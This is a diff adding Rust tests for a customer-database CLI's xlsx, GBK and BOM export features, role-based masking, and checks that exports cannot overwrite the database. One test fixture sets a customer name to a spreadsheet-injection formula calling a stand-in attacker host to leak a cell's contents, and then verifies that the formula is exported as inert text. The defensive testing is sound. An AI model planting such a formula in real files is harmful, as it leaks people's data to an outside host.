@@ -2,10 +2,12 @@
 use std::io::Read;
 use std::process::Stdio;
 
+use calamine::Data;
 use rusqlite::Connection;
 use serde_json::Value;
 
 use crate::common::fixtures::{csv_rows, data, import, two_teams};
+use crate::common::workbook;
 use crate::common::TestEnv;
 
 #[test]
@@ -196,4 +198,251 @@ fn existing_files_need_force_and_default_rejects_never_overwrite() {
         .unwrap();
     env.fails_as("admin", &["backup", b.to_str().unwrap(), "--force"], 6);
     drop(busy);
+}
+
+// ------------------------------------------------------------------ Excel
+
+/// Customers as `export --format json` shows them, without what an import does not
+/// carry over (id, owner, pool, times).
+fn portable(env: &TestEnv) -> Vec<Value> {
+    env.json(&["export", "--unmasked"])
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| {
+            let mut c = c.clone();
+            let o = c.as_object_mut().unwrap();
+            for k in ["id", "owner", "pool", "created", "last_contact"] {
+                o.remove(k);
+            }
+            c
+        })
+        .collect()
+}
+
+#[test]
+fn xlsx_export_round_trips_with_phones_as_text_and_no_formulas() {
+    let env = TestEnv::new();
+    import(&env, &[&data("utf8_bom.csv")]);
+    import(&env, &[&data("quoted_newlines.csv")]);
+    import(&env, &[&data("formula.csv")]);
+    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"点我\")";
+    env.ok(&[
+        "add",
+        "--name",
+        evil,
+        "--company",
+        "007 工作室",
+        "--phone",
+        "+86 138 0013 8099",
+    ]);
+    let f = env.dir.path().join("all.xlsx");
+    let fs = f.to_str().unwrap();
+    // The file name is enough to ask for a workbook.
+    env.ok(&["export", "--unmasked", "-o", fs]);
+    let rows = workbook::rows(&f);
+    assert_eq!(rows[0][..4], ["id", "name", "company", "phone"]);
+    assert!(workbook::bold(&f, 0, 0), "header row bold");
+    let cells = workbook::cells(&f);
+    let phone_col = 3;
+    for r in 1..rows.len() {
+        match cells.get((r, phone_col)) {
+            Some(Data::String(_)) | Some(Data::Empty) | None => {}
+            other => panic!("phone in row {r} is not a text cell: {other:?}"),
+        }
+    }
+    let mine = rows
+        .iter()
+        .find(|r| r[1] == evil)
+        .expect("the formula-like name");
+    assert_eq!(mine[2], "007 工作室");
+    assert_eq!(mine[3], "+86 138 0013 8099");
+    assert!(rows.iter().any(|r| r[1] == "张伟"), "Chinese text intact");
+    assert!(
+        workbook::formulas(&f).is_empty(),
+        "a text cell became a formula: {:?}",
+        workbook::formulas(&f)
+    );
+    // Dates as text, the same as in CSV.
+    let csv = csv_rows(&env.ok(&["export", "--unmasked"]));
+    let created = rows[0].iter().position(|h| h == "created").unwrap();
+    assert_eq!(rows[1][created], csv[1][created]);
+    assert!(matches!(cells.get((1, created)), Some(Data::String(_))));
+
+    let env2 = TestEnv::new();
+    let s = import(&env2, &[fs]);
+    assert_eq!(s["encoding"], "xlsx", "{s}");
+    assert_eq!(s["rejected"], 0, "{s}");
+    assert_eq!(portable(&env), portable(&env2));
+}
+
+#[test]
+fn a_viewers_xlsx_export_is_masked_exactly_like_csv() {
+    let env = TestEnv::new();
+    env.user("lin", "marketing", "viewer");
+    env.user("zhao", "sales-east", "manager");
+    import(&env, &[&data("utf8_bom.csv")]);
+    env.ok(&[
+        "add",
+        "--name",
+        "赵客户",
+        "--phone",
+        "13912345678",
+        "--email",
+        "boss@corp.cn",
+        "--notes",
+        "call 13912345678 or boss@corp.cn",
+    ]);
+    for (who, extra) in [("lin", None), ("zhao", Some("--unmasked"))] {
+        let f = env.dir.path().join(format!("{who}.xlsx"));
+        let mut args = vec!["export", "--format", "xlsx", "-o", f.to_str().unwrap()];
+        args.extend(extra);
+        env.ok_as(who, &args);
+        let mut csv_args = vec!["export"];
+        csv_args.extend(extra);
+        let csv = csv_rows(&env.ok_as(who, &csv_args));
+        let xlsx = workbook::rows(&f);
+        assert_eq!(xlsx.len(), csv.len(), "{who}");
+        for (x, c) in xlsx.iter().zip(&csv) {
+            // CSV guards formula-like cells with a quote; the workbook needs no guard.
+            let c: Vec<String> = c
+                .iter()
+                .map(|s| match s.strip_prefix('\'') {
+                    Some(rest) if rest.starts_with(['=', '+', '-', '@', '\'']) => rest.into(),
+                    _ => s.clone(),
+                })
+                .collect();
+            assert_eq!(x, &c, "{who}");
+        }
+        let all = xlsx.concat().join("|");
+        if who == "lin" {
+            assert!(!all.contains("13912345678"), "viewer sees a phone: {all}");
+            assert!(
+                !all.contains("boss@corp.cn"),
+                "viewer sees an e-mail: {all}"
+            );
+            assert!(all.contains("139****5678"), "{all}");
+        } else {
+            // A manager unmasks the pool, not another team's customer.
+            assert!(all.contains("13800138001"), "{all}");
+            assert!(!all.contains("13912345678"), "{all}");
+        }
+    }
+    let formats: Vec<String> = env
+        .audit_rows("export")
+        .into_iter()
+        .filter_map(|r| r.after)
+        .filter(|a| a.contains("xlsx"))
+        .collect();
+    assert_eq!(formats.len(), 2, "every workbook export is audited");
+}
+
+#[test]
+fn xlsx_output_is_never_the_database_and_never_binary_on_other_commands() {
+    let env = TestEnv::new();
+    import(&env, &[&data("utf8_bom.csv")]);
+    let before = crate::common::files::snapshot(&env.db());
+    let db = env.db();
+    let wal = format!("{}-wal", db.display());
+    for target in [db.to_str().unwrap(), wal.as_str()] {
+        let e = env.fails_as("admin", &["export", "--format", "xlsx", "-o", target], 6);
+        assert!(e.contains("database"), "{e}");
+        env.fails_as(
+            "admin",
+            &["export", "--format", "xlsx", "-o", target, "--force"],
+            6,
+        );
+    }
+    let link = env.dir.path().join("leads.xlsx");
+    std::os::unix::fs::symlink(&db, &link).unwrap();
+    env.fails_as(
+        "admin",
+        &["export", "-o", link.to_str().unwrap(), "--force"],
+        6,
+    );
+    assert_eq!(env.integrity_check(), "ok");
+    assert_eq!(
+        before.len(),
+        crate::common::files::snapshot(&env.db()).len()
+    );
+    let e = env.fails_as("admin", &["list", "--format", "xlsx"], 2);
+    assert!(e.contains("pool export"), "{e}");
+    env.fails_as("admin", &["export", "--format", "xlsx", "--bom"], 2);
+    // No audit row, no workbook: not even an empty file is left.
+    let holder = Connection::open(env.db()).unwrap();
+    holder.execute_batch("BEGIN IMMEDIATE").unwrap();
+    let f = env.dir.path().join("busy.xlsx");
+    let out = env
+        .cmd()
+        .env("POOL_BUSY_TIMEOUT", "1")
+        .args(["export", "--unmasked", "-o", f.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(7));
+    assert!(!f.exists(), "a workbook without an audit row");
+    holder.execute_batch("ROLLBACK").unwrap();
+    // Redirected stdout is a file: the workbook goes there.
+    let out = env.run_as("admin", &["export", "--format", "xlsx"]);
+    assert!(out.status.success());
+    assert!(out.stdout.starts_with(b"PK\x03\x04"));
+}
+
+#[test]
+fn gbk_csv_export_decodes_to_the_utf8_export_and_refuses_what_gbk_cannot_hold() {
+    let env = TestEnv::new();
+    import(&env, &[&data("utf8_bom.csv")]);
+    let utf8 = env.run_as("admin", &["export", "--unmasked"]).stdout;
+    let gbk = env
+        .run_as("admin", &["export", "--unmasked", "--encoding", "gbk"])
+        .stdout;
+    assert!(std::str::from_utf8(&gbk).is_err(), "GBK bytes, not UTF-8");
+    let (decoded, _, bad) = encoding_rs::GBK.decode(&gbk);
+    assert!(!bad);
+    assert_eq!(decoded, String::from_utf8(utf8).unwrap());
+    // 𠮷 (U+20BB7) is outside GBK: an error naming the customer and the column, and
+    // no half-written file left behind.
+    let id = env.json(&["add", "--name", "𠮷野家", "--phone", "13800000077"])["id"].to_string();
+    let f = env.dir.path().join("gbk.csv");
+    let e = env.fails_as(
+        "admin",
+        &["export", "--encoding", "gbk", "-o", f.to_str().unwrap()],
+        6,
+    );
+    assert!(e.contains(&format!("customer {id}")), "{e}");
+    assert!(e.contains("'name'") && e.contains("U+20BB7"), "{e}");
+    assert!(e.contains("gb18030"), "hint: {e}");
+    assert!(!f.exists(), "partial export left behind");
+    let gb = env
+        .run_as("admin", &["export", "--encoding", "gb18030"])
+        .stdout;
+    let (decoded, _, bad) = encoding_rs::GB18030.decode(&gb);
+    assert!(!bad && decoded.contains("𠮷野家"));
+    // The formula guard stays in every encoding.
+    env.ok(&["add", "--name", "=1+1", "--phone", "13800000078"]);
+    let gbk = env
+        .run_as("admin", &["export", "--encoding", "gb18030"])
+        .stdout;
+    let rows = csv_rows(&encoding_rs::GB18030.decode(&gbk).0);
+    assert!(rows.iter().any(|r| r[1] == "'=1+1"), "{rows:?}");
+}
+
+#[test]
+fn a_bom_only_when_asked_and_only_for_utf8_csv() {
+    let env = TestEnv::new();
+    import(&env, &[&data("utf8_bom.csv")]);
+    let with = env.run_as("admin", &["export", "--bom"]).stdout;
+    let without = env.run_as("admin", &["export"]).stdout;
+    assert!(with.starts_with(b"\xEF\xBB\xBFid,"));
+    assert!(without.starts_with(b"id,"));
+    assert_eq!(&with[3..], &without[..]);
+    let f = env.dir.path().join("bom.csv");
+    env.ok(&["export", "--bom", "-o", f.to_str().unwrap()]);
+    assert_eq!(std::fs::read(&f).unwrap(), with);
+    env.fails_as("admin", &["export", "--bom", "--encoding", "gbk"], 2);
+    env.fails_as("admin", &["export", "--bom", "--format", "json"], 2);
+    env.fails_as(
+        "admin",
+        &["export", "--encoding", "gbk", "--format", "jsonl"],
+        2,
+    );
 }
